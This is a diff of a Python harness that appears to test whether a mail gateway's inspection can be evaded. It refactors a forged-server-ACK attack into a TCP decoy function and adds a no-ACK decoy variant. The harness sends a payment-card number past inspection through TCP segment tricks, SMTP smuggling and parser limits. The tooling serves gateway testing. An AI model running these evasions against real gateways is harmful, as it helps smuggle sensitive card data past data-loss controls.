@@ -251,24 +251,27 @@ def bad_checksum_decoy(flow, r, msg_id, opts):
     session.end(flow, r)
 
 
-# -- 8. direction from addresses only -----------------------------------------------
-def forged_server_ack(flow, r, msg_id, opts):
-    """The card's bytes first go harmless in a segment without ACK (Linux discards data
-    without ACK on an established connection); an ACK forged as the server's, sent from
-    the client's side, acknowledges them, so a gateway that takes direction from the
-    addresses alone forgets its copy; then the card in the same bytes."""
-    data, at = card_split(msg_id)
-    s, e = at - 6, at + len(CARD) + 6
-    if not head_then_rest(flow, r, data, s):
-        return
-    base = flow.snd_nxt
-    decoy = harmless(data[s:e], s, at)
-    flow.send_raw("P", base, decoy)
-    flow.poll(0.1)
-    flow.send_as_server("A", flow.rcv_nxt, base + len(decoy))
-    flow.poll(0.1)
-    r["acked_all"] = flow.send_stream(data[s:], base=base, timeout=5)
-    session.end(flow, r)
+def decoy_without_ack(forge_server_ack):
+    def play(flow, r, msg_id, opts):
+        """The card's bytes first go harmless in a segment without the ACK flag (Linux
+        discards data without ACK on an established connection); with FORGE_SERVER_ACK,
+        an ACK forged as the server's, sent from the client's side, acknowledges them, so
+        a gateway that takes direction from the addresses alone forgets its copy; then
+        the same bytes with the card and ACK, as a real sender retransmits them."""
+        data, at = card_split(msg_id)
+        s, e = at - 6, at + len(CARD) + 6
+        if not head_then_rest(flow, r, data, s):
+            return
+        base = flow.snd_nxt
+        decoy = harmless(data[s:e], s, at)
+        flow.send_raw("P", base, decoy)
+        flow.poll(0.1)
+        if forge_server_ack:
+            flow.send_as_server("A", flow.rcv_nxt, base + len(decoy))
+            flow.poll(0.1)
+        r["acked_all"] = flow.send_stream(data[s:], base=base, timeout=5)
+        session.end(flow, r)
+    return play
 
 
 # -- smuggling, sent in order -------------------------------------------------------
@@ -300,7 +303,8 @@ ATTACKS = [
     Attack("nested-33", "10 parser caps (depth)", "multipart nested 33 deep: card + EICAR innermost", whole_message(nested_message)),
     Attack("content-type-64k", "10 parser caps (header)", "70 KiB Content-Type, boundary last, card in base64", whole_message(long_content_type_message)),
     Attack("bad-checksum-decoy", "classic decoy", "card with a wrong checksum, then harmless", bad_checksum_decoy),
-    Attack("forged-server-ack", "8 direction from addresses", "decoy without ACK, forged server ACK from outside, card", forged_server_ack),
+    Attack("no-ack-decoy", "classic decoy", "harmless without ACK (Linux discards it), then the card", decoy_without_ack(False)),
+    Attack("forged-server-ack", "8 direction from addresses", "decoy without ACK, forged server ACK from outside, card", decoy_without_ack(True)),
 ] + [
     Attack(f"smuggle-split-{v}", "smuggling sent in order", f"card, {smuggling.VARIANTS[v]!r}, wait, smuggled MAIL",
            smuggle_split(v)) for v in smuggling.POSTFIX_ENDS_DATA
